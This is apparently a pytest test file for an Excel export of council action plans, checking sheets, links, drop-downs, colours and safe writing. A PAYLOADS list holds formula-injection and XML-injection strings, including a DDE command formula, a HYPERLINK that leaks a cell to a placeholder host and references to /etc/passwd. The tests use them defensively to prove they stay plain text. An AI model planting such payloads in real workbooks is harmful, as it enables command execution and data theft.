"""The workbook holds every row as it is, marked up as tables, and nothing in it takes effect."""

from __future__ import annotations

import re
import tempfile
import zipfile
from dataclasses import replace
from datetime import date, datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from openpyxl.utils.escape import unescape
from openpyxl.worksheet.worksheet import Worksheet

from export import Export, WriteOptions, write_all
from export.words import worded
from export.writers.to_xlsx import dictionary
from export.writers.to_xlsx.added import Added
from export.writers.to_xlsx.book import Book
from export.writers.to_xlsx.changes_sheet import NOTHING
from export.writers.to_xlsx.colours import palette
from export.writers.to_xlsx.layout import ADDED, sheets
from export.writers.to_xlsx.tables import write_table
from normalise.compare import compare
from normalise.schema import TABLES
from tests.export.invented import ABOUT, a_plan, an_action, an_export, the_plans

XLSX = WriteOptions(formats=("xlsx",))


def opened(export: Export, folder: Path) -> Workbook:
    write_all(export, folder, XLSX)
    return load_workbook(folder / "action-plans.xlsx")


def cells(page: Worksheet, column: str) -> list[object]:
    names = [cell.value for cell in page[1]]
    return [row[names.index(column)].value for row in page.iter_rows(min_row=2)]


def parts(folder: Path) -> dict[str, str]:
    with zipfile.ZipFile(folder / "action-plans.xlsx") as book:
        return {name: book.read(name).decode("utf-8", "replace") for name in book.namelist()}


def test_the_sheets_are_those_of_the_contract_with_a_cover_first(tmp_path: Path) -> None:
    names = opened(the_plans(), tmp_path).sheetnames
    assert names[0] == "Cover" and names[-1] == "Data dictionary"
    assert {sheet.title for sheet in sheets()} < set(names)


def test_every_column_of_the_contract_is_on_its_sheet_once() -> None:
    for sheet in sheets():
        names = [field.name for field in sheet.columns]
        assert sorted(names) == sorted({f.name for f in (*TABLES[sheet.name], *ADDED.get(sheet.name, ()))})


def test_every_sheet_of_rows_is_an_excel_table_with_filters_and_a_frozen_header(tmp_path: Path) -> None:
    book = opened(the_plans(), tmp_path)
    for sheet in sheets():
        page = book[sheet.title]
        table = page.tables[sheet.table]
        assert table.autoFilter is not None and page.freeze_panes is not None
        assert table.ref == page.dimensions or table.ref.startswith("A1:")
        assert [column.name for column in table.tableColumns] == [cell.value for cell in page[1]]


def test_the_table_reaches_to_the_last_row(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Actions"]
    assert page.tables["Actions"].ref.endswith("8") and page.max_row == 8


def test_dates_and_numbers_are_real(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Actions"]
    assert cells(page, "due_date")[0] == datetime(2026, 3, 31)
    assert cells(page, "cost_max_gbp")[0] == 300000
    assert cells(page, "days_overdue") == [235, None, None, None, None, 325, None]


def test_a_date_before_excels_calendar_is_text(tmp_path: Path) -> None:
    page = opened(an_export(a_plan(an_action(due_date=date(1897, 6, 22)))), tmp_path)["Actions"]
    assert cells(page, "due_date") == ["1897-06-22"]


def test_each_row_links_to_its_source_file(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Actions"]
    names = [cell.value for cell in page[1]]
    cell = page.cell(6, names.index("Source") + 1)
    assert cell.value == "eastmoor/homelessness.pdf, page 4, table 1, row 2"
    assert cell.hyperlink is not None and cell.hyperlink.location == "page=4"
    assert cell.hyperlink.target == "..\\plans\\eastmoor\\homelessness.pdf"


def test_all_rows_of_a_file_lead_to_it_by_one_relationship(tmp_path: Path) -> None:
    write_all(an_export(a_plan(*(an_action(page=None, row=n) for n in range(2, 30)))), tmp_path, XLSX)
    inside = parts(tmp_path)
    said = next(text for name, text in inside.items() if "worksheets/sheet" in name and text.count("<hyperlink ") == 28)
    assert len(set(re.findall(r'<hyperlink ref="[A-Z]+\d+" (r:id="rId\d+")', said))) == 1


def test_coded_columns_have_drop_downs(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Actions"]
    lists = [rule.formula1 for rule in page.data_validations.dataValidation if rule.type == "list"]
    assert any("On track" in said for said in lists) and any("Deadline" in said for said in lists)


def test_codes_stand_as_words_and_the_dictionary_says_which(tmp_path: Path) -> None:
    book = opened(the_plans(), tmp_path)
    assert set(cells(book["Actions"], "status")) == {
        "At risk", "On track", "In progress", None, "Complete", "Off track", "Not started",
    }  # fmt: skip
    said = dict(zip(cells(book["Data dictionary"], "column"), cells(book["Data dictionary"], "codes"), strict=True))
    assert "In progress (in_progress)" in str(said["status"]) and "lead; " in str(said["field"])


def test_colours_follow_the_words_that_stand_in_the_cells(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Actions"]
    said = {f for rules in page.conditional_formatting for rule in rules.rules for f in rule.formula}
    assert {f'"{worded(code)}"' for code in palette()["status"]} <= said


def test_what_changed_tells_codes_in_words(tmp_path: Path) -> None:
    export = the_plans()
    before = [row | {"status": "on_track"} if row["ref"] == "1.1" else row for row in export.tables["actions"]]
    changed = replace(export, changes=compare(before, export.tables["actions"]))
    page = opened(changed, tmp_path)["What changed"]
    assert [cell.value for cell in page[2]][1] == "Status changed from “On track” to “At risk”."
    assert [cell.value for cell in page[2]][5:7] == ["On track", "At risk"]


def test_what_changed_says_so_where_nothing_has(tmp_path: Path) -> None:
    for changes in ((), None):
        page = opened(replace(the_plans(), changes=changes), tmp_path)["What changed"]
        assert page["B2"].value == NOTHING and page.max_row == 2


PAYLOADS = (
    '=HYPERLINK("http://example.invalid/?"&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)",
    "\t=1+1", "＝1+1", "{=1+1}", "http://example.invalid", "mailto:a@example.invalid", "external:c:\\x.xlsx",
    "internal:'Files'!A1", "file:///etc/passwd", "\\\\example.invalid\\share", "<r><t>rich</t></r>",
    "</t></is></c><c><f>1+1</f></c>", "_x0041_", "&amp;&lt;", "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "1234",
    "TRUE", "#REF!", "2026-03-31", "  spaces  ",
)  # fmt: skip


@pytest.mark.parametrize("text", PAYLOADS)
def test_whatever_a_document_says_is_only_text(tmp_path: Path, text: str) -> None:
    page = opened(an_export(a_plan(an_action(action=text))), tmp_path)["Actions"]
    names = [cell.value for cell in page[1]]
    cell = page.cell(2, names.index("action") + 1)
    assert (unescape(str(cell.value)), cell.data_type, cell.hyperlink) == (text, "s", None)


def test_the_workbook_has_no_formula_and_only_relative_links(tmp_path: Path) -> None:
    plans = (a_plan(an_action(action=text, source_file=f"{text}.pdf")) for text in PAYLOADS)
    write_all(an_export(*plans), tmp_path, XLSX)
    inside = parts(tmp_path)
    assert not any("<f>" in said or "<f " in said for name, said in inside.items() if "worksheets/sheet" in name)
    assert not any("externalLink" in name or "vba" in name.lower() for name in inside)
    links = [rels for name, rels in inside.items() if "worksheets/_rels" in name]
    targets = re.findall(r'Target="([^"]*)" TargetMode="External"', "".join(links))
    assert len(targets) > len(PAYLOADS) and all(target.startswith("..\\plans\\") for target in targets)


@pytest.mark.parametrize("text", ["bell \x07", "\x00", "lone \ud83d half", "\ufffe\uffff", "a\r\nb\rc", "🏛" * 20_000])
def test_characters_that_xml_cannot_hold_do_not_break_the_workbook(tmp_path: Path, text: str) -> None:
    page = opened(an_export(a_plan(an_action(action=text))), tmp_path)["Actions"]
    assert cells(page, "action")[0] is not None


def test_a_text_longer_than_a_cell_is_cut_with_a_note(tmp_path: Path) -> None:
    page = opened(an_export(a_plan(an_action(progress="x" * 40_000))), tmp_path)["Actions"]
    said = str(cells(page, "progress")[0])
    note = "[Cut here: 40,000 characters, more than a cell holds. The whole text is in the CSV file.]"
    assert len(said) == 32_767 and said.endswith(f"\n{note}")


def test_more_rows_than_a_sheet_holds_go_on_the_next(tmp_path: Path) -> None:
    export = the_plans()
    book = Book(tmp_path / "x.xlsx", ABOUT, tmp_path)
    write_table(book, sheets()[0], export.tables["actions"], Added(book, export), most=3)
    book.workbook.close()
    read = load_workbook(tmp_path / "x.xlsx")
    assert read.sheetnames == ["Actions", "Actions (2)", "Actions (3)"]
    assert [value for page in read for value in cells(page, "ref")] == ["1.1", "1.2", "2.1", "2.2", "A", "B", "C"]
    assert [list(page.tables) for page in read] == [["Actions"], ["Actions_2"], ["Actions_3"]]


def test_a_workbook_that_is_stopped_halfway_leaves_no_piece_behind(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    def stop(*_: object) -> None:
        raise KeyboardInterrupt

    pieces, out = tmp_path / "pieces", tmp_path / "out"
    pieces.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(pieces))
    monkeypatch.setattr(dictionary, "write_dictionary", stop)
    with pytest.raises(KeyboardInterrupt):
        write_all(the_plans(), out, XLSX)
    assert not list(pieces.iterdir()) and not list(out.glob("*.xlsx"))


def test_a_sheet_with_too_many_links_keeps_the_words(tmp_path: Path) -> None:
    book = Book(tmp_path / "x.xlsx", ABOUT, tmp_path)
    page = book.add("Links")
    page.hlink_count = 65_530
    assert not page.link((0, 0), "./a.docx", "a.docx", None)
    book.workbook.close()


def test_the_cover_says_what_needs_attention_before_anything_else(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Cover"]
    said = [str(row[0].value) for row in page.iter_rows() if row[0].value]
    assert said[:4] == [
        "Action plans", "7 actions of 2 councils from 2 of 4 files, as things stood on 21 November 2026.",
        "What needs attention first", "Date before plan",
    ]  # fmt: skip


def test_a_run_without_doubts_says_so_on_the_cover(tmp_path: Path) -> None:
    page = opened(an_export(a_plan(an_action(status="complete"))), tmp_path)["Cover"]
    assert any("Nothing: every file was read" in str(row[0].value) for row in page.iter_rows())


def test_the_data_dictionary_describes_every_column_of_every_sheet(tmp_path: Path) -> None:
    page = opened(the_plans(), tmp_path)["Data dictionary"]
    assert len(cells(page, "column")) == sum(len(sheet.columns) for sheet in sheets())
    assert None not in cells(page, "meaning")


def test_an_empty_run_gives_a_workbook_that_opens(tmp_path: Path) -> None:
    book = opened(an_export(), tmp_path)
    assert book["Actions"].tables["Actions"].ref.endswith("2")


def luminance(colour: str) -> float:
    parts = (int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5))
    r, g, b = (c / 12.92 if c <= 0.04045 else ((c + 0.055) / 1.055) ** 2.4 for c in parts)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b


def test_every_colour_can_be_read_by_people_with_poor_sight() -> None:
    for codes in palette().values():
        for fill, ink in codes.values():
            assert (luminance(fill) + 0.05) / (luminance(ink) + 0.05) >= 4.5
